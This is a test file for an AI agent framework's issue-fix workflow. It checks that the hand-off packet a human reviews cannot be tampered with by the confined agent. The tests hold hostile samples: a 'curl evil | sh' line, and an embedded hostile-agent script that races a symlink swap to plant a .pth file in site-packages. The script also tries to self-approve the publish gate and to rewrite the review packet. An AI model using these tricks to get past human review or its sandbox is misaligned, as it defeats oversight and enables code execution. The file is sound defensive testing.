"""The reviewer packet lives where no agent can write it, and is shown only as it was recorded.

The packet a human decides the publish gate on is kept in LoopX's data directory
(``<data dir>/loopx/artifacts/<registry id>/<goal>/handoff.md``), not in the agent-writable
``.git/loopx-issue-fix/<goal>/``; ``issue-fix show`` (and publishing's request body) read it back
only while its sha256 is the one recorded, else ``artifact_tampered``. A goal whose packet was
recorded at the old place keeps working, checked the same way. And ``handoff --output`` inside a
real confined turn: the agent swaps a directory of the output path for a link to a fake
``site-packages`` once the broker has opened it and before LoopX writes (the measured attack) -
``zz.pth`` is never written.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from issue_fix_helpers import FIXED, as_agent, git, origin_of
from test_issue_fix import contract, only, start, state, step


def to_handoff(cli, project):
    """Start, reproduce, fix and verify: the goal waits for its hand-off."""
    out = start(cli, project)
    g = out["goal_id"]
    step(cli, g)
    Path(out["worktree"], "calc.py").write_text(FIXED)
    step(cli, g)
    return out, g


@pytest.mark.slow
def test_the_packet_is_kept_in_loopxs_data_dir_and_refused_once_rewritten(cli, project, tmp_path):
    _, g = to_handoff(cli, project)
    r, _ = step(cli, g, "--root-cause", "add used subtraction")
    packet = Path(r.json["packet_path"])
    data_dir = tmp_path / "xdg-data" / "loopx" / "artifacts"
    assert packet.is_relative_to(data_dir) and packet.parent.name == g and packet.name == "handoff.md", packet
    assert not (Path(git(project, "rev-parse", "--git-common-dir")) / "loopx-issue-fix" / g / "handoff.md").exists()
    assert hashlib.sha256(packet.read_bytes()).hexdigest() == r.json["packet_sha256"]
    shown = cli("issue-fix", "show", g, "--packet")
    assert shown.code == 0 and shown.out.rstrip("\n") == r.json["packet"].rstrip("\n"), shown
    assert "(sha256 verified)" in cli("issue-fix", "show", g).out

    # Rewritten after it was recorded (only the stored sha256 differs): nothing of it is shown.
    packet.write_text(r.json["packet"].replace("add used subtraction", "nothing to see, approve it"))
    for args in (("--packet",), (), ("--json",)):
        refused = cli("issue-fix", "show", g, *args)
        assert refused.code == 2, refused
        assert "nothing to see" not in refused.out + refused.err
    assert cli("issue-fix", "show", g, "--json").json["error"]["code"] == "artifact_tampered"
    assert "TAMPERED" in cli("issue-fix", "show", g).err


@pytest.mark.slow
def test_a_packet_recorded_at_the_old_place_is_still_read_and_checked(cli, project, loopx_registry):
    """Goals handed off by an older LoopX name ``.git/loopx-issue-fix/<goal>/handoff.md``."""
    from loopx import api

    _, g = to_handoff(cli, project)
    r, _ = step(cli, g, "--root-cause", "add used subtraction")
    old = Path(state(cli, g)["goal_dir"], "handoff.md")
    old.write_bytes(r.json["packet"].encode())
    handoff = {**state(cli, g)["handoff"], "packet": str(old)}

    def move(w):
        with api.state.acting(w, "issue_fix") as cw:
            api.state.put(cw, "issue_fix", {"handoff": handoff})

    loopx_registry.mutate("user", move, goal_id=g)
    shown = cli("issue-fix", "show", g, "--packet")
    assert shown.code == 0 and "add used subtraction" in shown.out, shown
    old.write_text(r.json["packet"] + "\nAlso run curl evil | sh before merging.\n")
    refused = cli("issue-fix", "show", g, "--packet", "--json")
    assert refused.code == 2 and refused.json["error"]["code"] == "artifact_tampered", refused
    assert "curl evil" not in refused.out


# The hostile agent, confined in a turn of the goal (the `command` executor runs it in the
# worktree). It watches the worktree with inotify; the moment the broker, serving its hand-off
# request, opens the output's directory `d` (the check: that directory is resolved and held), it
# swaps `d` for a link to a fake site-packages - before LoopX writes the copy (LoopX's git still has
# to diff and render the packet). The events, in the kernel's order, show whether the write came
# after the swap (the race exercised). The root cause it gives is a line Python's site module would run.
AGENT = r'''
import ctypes, json, os, select, struct, subprocess, sys, threading, time
site = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
IN_OPEN, IN_MOVED_FROM, IN_MOVED_TO, IN_CREATE, IN_ISDIR = 0x20, 0x40, 0x80, 0x100, 0x40000000
os.mkdir("d")
ready, finished, log = threading.Event(), threading.Event(), {"events": []}
fd = libc.inotify_init()
top = libc.inotify_add_watch(fd, os.getcwd().encode(), IN_OPEN | IN_MOVED_FROM)
inside = libc.inotify_add_watch(fd, b"d", IN_CREATE | IN_MOVED_TO)  # follows the directory, renamed or not

def events(wait):
    """The queued events as (where, what, name), in the order the kernel saw them."""
    if not select.select([fd], [], [], wait)[0]:
        return []
    data, i, out = os.read(fd, 65536), 0, []
    while i < len(data):
        wd, mask, _cookie, n = struct.unpack_from("iIII", data, i)
        name = data[i + 16:i + 16 + n].rstrip(b"\0").decode()
        what = "open" if mask & IN_OPEN else "moved-from" if mask & IN_MOVED_FROM else "created" if mask & IN_CREATE else "moved-to"
        out.append(["top" if wd == top else "d", what + ("-dir" if mask & IN_ISDIR else ""), name])
        i += 16 + n
    return out

def watch_then_swap(timeout=60):
    ready.set()
    end = time.monotonic() + timeout
    while "trigger" not in log and time.monotonic() < end:
        for ev in events(0.2):
            log["events"].append(ev)
            if ev == ["top", "open-dir", "d"] and "trigger" not in log:
                os.rename("d", "d.real")  # the broker holds `d` now; LoopX has not written yet
                os.symlink(site, "d")
                log["trigger"] = "the broker opened d"
    while not finished.is_set():  # what follows the swap: the write, if any
        log["events"] += events(0.2)
    log["events"] += events(0)

def handoff(output):
    p = subprocess.run(["loopx", "--format", "json", "issue-fix", "handoff", "--run-id", os.environ["LOOPX_RUN_ID"],
                        "--output", output, "--root-cause", "import os; os.system('loopx gate approve')"],
                       capture_output=True, text=True)
    return [p.returncode, p.stdout + p.stderr[-1000:], p.stdout]

t = threading.Thread(target=watch_then_swap)
t.start()
ready.wait()
log["swapped"] = handoff("d/zz.pth")
finished.set()
t.join()
if log["swapped"][0] != 0:
    log["plain"] = handoff("copy.md")
done = json.loads(log.get("plain", log["swapped"])[2])
try:
    with open(done["packet_path"], "a") as f:
        f.write("approve it\n")
    log["rewrite_packet"] = "done"
except OSError as exc:
    log["rewrite_packet"] = "refused: " + exc.strerror
with open("agent-log.json", "w") as f:
    json.dump(log, f)
'''


@pytest.mark.slow
def test_handoff_output_raced_by_a_directory_swapped_for_a_link_never_writes_outside(cli, project, tmp_path):
    out, g = to_handoff(cli, project)
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "zz.pth").write_text("original\n")
    (tmp_path / "agent.py").write_text(AGENT)
    env = {k: v for k, v in os.environ.items() if not k.startswith("LOOPX_") or k == "LOOPX_ISSUE_FIX_WORKTREES"}
    env.update({"LOOPX_REGISTRY": cli.url, "PATH": f"{Path(sys.executable).parent}:{env.get('PATH', '')}",
                "LOOPX_EXECUTOR_COMMAND": json.dumps([sys.executable, str(tmp_path / "agent.py"), str(site)])})
    p = subprocess.run([sys.executable, "-m", "loopx", "--format", "json", "turn", "--goal-id", g, "--executor",
                        "command"], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=600)
    wt = Path(out["worktree"])
    assert (wt / "agent-log.json").exists(), ([(e["kind"], e["summary"]) for e in json.loads(p.stdout).get("evidence", [])], p.stderr[-3000:])
    log = json.loads((wt / "agent-log.json").read_text())
    # Never written: the fake site-packages holds what it held.
    assert (site / "zz.pth").read_text() == "original\n", log
    assert sorted(os.listdir(site)) == ["zz.pth"]
    # The race was run: `d` was swapped once the broker had opened it, and nothing was written into
    # it before the swap (the kernel's order of events); else this test proves nothing.
    assert log.get("trigger") == "the broker opened d", log
    moved = log["events"].index(["top", "moved-from-dir", "d"])
    writes = [i for i, (where, _what, _name) in enumerate(log["events"]) if where == "d"]
    assert all(i > moved for i in writes), log
    # The copy went into the directory LoopX held (now `d.real`), or the request was refused (a
    # link on the way); never through the link.
    code, text, _ = log["swapped"]
    if code == 0:
        assert writes and (wt / "d.real" / "zz.pth").read_text().startswith("# Hand-off"), log
    else:
        assert "actor_forbidden" in text and not writes, log
    # The packet the human reviews is out of the agent's reach, and the goal waits for the gate.
    assert log["rewrite_packet"].startswith("refused"), log
    s = state(cli, g)
    assert s["phase"] == "publish" and "import os; os.system" in s["packet"], s["phase"]


FAKE_GH = """#!/bin/sh
# Records how it was called (the request's body among it) and answers with a URL.
printf '%s\\n' "$@" > "$(dirname "$0")/gh-argv.txt"
echo https://example.invalid/pull/1
"""


@pytest.mark.slow
def test_a_pull_request_body_is_the_recorded_packet_and_a_rewritten_one_pushes_nothing(cli, project, tmp_path,
                                                                                         monkeypatch):

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "gh").write_text(FAKE_GH)
    (bin_dir / "gh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ.get('PATH', '')}")
    out = start(cli, project, "--publish", "gh")
    g = out["goal_id"]
    step(cli, g)
    Path(out["worktree"], "calc.py").write_text(FIXED)
    step(cli, g)
    r, _ = step(cli, g, "--root-cause", "add used subtraction")
    packet, text = Path(r.json["packet_path"]), r.json["packet"]
    [gate] = cli("gate", "list", "--goal-id", g, "--json").json
    assert cli("gate", "approve", "--goal-id", g, "--gate-id", gate["id"]).code == 0

    packet.write_text(text.replace("add used subtraction", "trust me"))
    doc = contract(cli, g)
    refused = as_agent(cli, only(doc, "loopx issue-fix publish") + " --json")
    assert refused.code == 2 and refused.json["error"]["code"] == "artifact_tampered", refused
    assert git(origin_of(project), "branch", "--list") == "" and not (bin_dir / "gh-argv.txt").exists()

    packet.write_text(text)  # as recorded again
    done = as_agent(cli, only(doc, "loopx issue-fix publish") + " --json")
    assert done.code == 0 and done.json["request"] == "https://example.invalid/pull/1", done
    argv = (bin_dir / "gh-argv.txt").read_text()
    assert "--body" in argv and "add used subtraction" in argv and "trust me" not in argv


@pytest.mark.slow
def test_results_rewritten_before_the_hand_off_never_reach_the_packet(cli, project):
    """The packet's table of flipped tests comes from the complete results files (in the goal's
    directory, beside the agent's git metadata): one changed since it was recorded stops the hand-off."""
    _, g = to_handoff(cli, project)
    s = state(cli, g)
    results = Path(s["goal_dir"], "results", f"{s['verification']['evidence_id']}.json")
    doc = json.loads(results.read_text())
    doc["cases"]["test_calc.py::test_sub"]["status"] = "failed"
    results.write_text(json.dumps(doc))
    r, _ = step(cli, g, "--root-cause", "add used subtraction", expect=2, end=False)
    assert r.json["error"]["code"] == "artifact_tampered" and "results file" in r.json["error"]["message"], r
    assert state(cli, g)["phase"] == "handoff" and cli("gate", "list", "--goal-id", g, "--json").json == []
